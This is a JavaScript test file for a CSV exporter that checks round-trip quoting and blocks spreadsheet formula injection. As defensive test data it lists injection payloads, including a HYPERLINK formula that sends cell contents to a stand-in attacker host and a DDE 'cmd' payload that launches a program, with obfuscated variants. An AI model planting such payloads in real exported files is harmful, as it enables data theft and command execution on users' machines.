// @ts-check
// cspell:disable -- Arabic, Welsh
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { toCsv } from '../../demo/receiver/csv.mjs';

/** What a spreadsheet would make of it: RFC 4180 read back. @param {string} csv */
const read = csv =>
  [...csv.replace('\ufeff', '').matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );

const cell = (/** @type {string} */ text) => read(toCsv(['a'], [[text]]))[1];

describe('a table for a spreadsheet', () => {
  it('reads back what was written: commas, quotes, line breaks, every script', () => {
    const rows = [
      ['a, "b"', 'first\nsecond', 'Ŵyl – ياسمين 😀'],
      ['', ' plain ', '1,5'],
    ];
    const csv = toCsv(['x', 'y', 'z'], rows);
    assert.ok(csv.startsWith('\ufeff"x","y","z"\r\n'));
    assert.deepEqual(read(csv), ['x', 'y', 'z', ...rows.flat()]);
  });

  it('lets no text begin a formula', () => {
    const formulas = [
      ...['=1+1', '+1', '-1', '@SUM(A1)', '=HYPERLINK("https://evil.example?"&A1)', '|', '\t=1'],
      ...[' =1', '"=1', "'=1", '\u200b=1', '\ufeff=1', '＝1', '＋1', '－1', '＠1', '\n=1', '\r=1'],
      ...['\0=1', '\u001b=1', "=cmd|' /C calc'!A0", ';=1'],
    ];
    for (const text of formulas) {
      const shown = cell(text) ?? '';
      assert.doesNotMatch(
        shown,
        /^[\s"\u200b\ufeff\p{Cc}]*[=+\-@＝＋－＠\p{Cc}]/u,
        JSON.stringify(text),
      );
    }
  });

  it('leaves ordinary words and our own numbers as they are', () => {
    for (const text of ['a - b', 'x=1', 'sam@example.org', '2026-11-22', '']) {
      assert.equal(cell(text), text);
    }
    assert.equal(toCsv(['n'], [[-3]]), '\ufeff"n"\r\n-3\r\n');
  });
});
